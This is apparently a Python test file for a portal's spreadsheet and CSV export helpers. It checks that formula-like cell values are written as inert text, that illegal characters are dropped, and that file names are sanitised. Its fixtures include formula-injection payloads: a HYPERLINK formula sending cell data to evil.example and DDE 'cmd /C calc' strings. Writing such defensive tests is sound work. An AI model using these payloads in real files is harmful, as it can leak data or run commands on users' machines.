"""Exports never carry a live formula or a character that breaks the file."""

from io import BytesIO

from openpyxl import Workbook, load_workbook

from tslp_portal.excel import cell_set, csv_text, row_cells, workbook_bytes, xlsx_response

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
    "+62 812 5000 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\tTab di depan",
    "\nLF di depan",
]


def reread(content: bytes):
    return load_workbook(BytesIO(content)).active


def test_hostile_text_is_written_as_quoted_text_and_reads_back_as_typed():
    workbook = Workbook()
    for row, text in enumerate(HOSTILE, start=1):
        cell_set(workbook.active, row, 1, text)
    sheet = reread(workbook_bytes(workbook))
    for row, text in enumerate(HOSTILE, start=1):
        cell = sheet.cell(row=row, column=1)
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)


def test_cells_written_directly_are_neutralised_when_saved():
    workbook = Workbook()
    workbook.active["A1"] = "=1+1"
    workbook.active["A2"] = "Bedah rumah"
    workbook.active["A3"] = 1250000
    sheet = reread(workbook_bytes(workbook))
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("=1+1", "s")
    assert (sheet["A2"].value, sheet["A2"].quotePrefix) == ("Bedah rumah", False)
    assert sheet["A3"].value == 1250000


def test_write_only_rows_are_neutralised_and_illegal_characters_dropped():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Baris")
    sheet.append(row_cells(sheet, ["=cmd|' /C calc'!A0", "Nama\x00\x01 Kepala", 7]))
    row = reread(workbook_bytes(workbook))[1]
    assert [c.value for c in row] == ["=cmd|' /C calc'!A0", "Nama Kepala", 7]
    assert row[0].data_type == "s"


def test_xlsx_response_is_an_attachment_with_a_safe_file_name():
    workbook = Workbook()
    response = xlsx_response(workbook, 'daftar "penerima"\r\n.xlsx')
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"].startswith("attachment; filename")
    assert "\n" not in response["Content-Disposition"]
    assert reread(response.content).max_row == 1


def test_the_rejected_rows_workbook_writes_registry_values_as_text():
    from poverty_data.services import errors_workbook_write

    buffer = BytesIO()
    errors_workbook_write(
        [[7, "NAMA", '=HYPERLINK("http://evil.example","x")', "Desa tidak dikenal"]], buffer
    )
    cell = reread(buffer.getvalue())["C2"]
    assert (cell.value, cell.data_type) == ('=HYPERLINK("http://evil.example","x")', "s")


def test_the_program_list_workbook_writes_a_formula_title_as_text(db, company):
    from programs.excel.program import program_list_workbook
    from tests.programs.factories import ProgramFactory

    ProgramFactory(company=company, title='=HYPERLINK("http://evil.example/?x="&A1,"Klik")')
    from programs.models import Program

    content = program_list_workbook(
        programs=Program.objects.prefetch_related("locations__desa__kecamatan").select_related("company"),
        title="Program",
    )
    sheet = reread(content)
    titles = [c for c in sheet["A"] if isinstance(c.value, str) and "HYPERLINK" in c.value]
    assert [(c.data_type, c.quotePrefix) for c in titles] == [("s", True)]


def test_a_csv_cell_gets_the_same_guard_as_a_workbook_cell():
    for text in HOSTILE:
        assert csv_text(text) == "'" + text
    assert csv_text("Desa Bahaur") == "Desa Bahaur"
    assert (csv_text(None), csv_text(-3), csv_text(12.5)) == ("", "-3", "12.5")
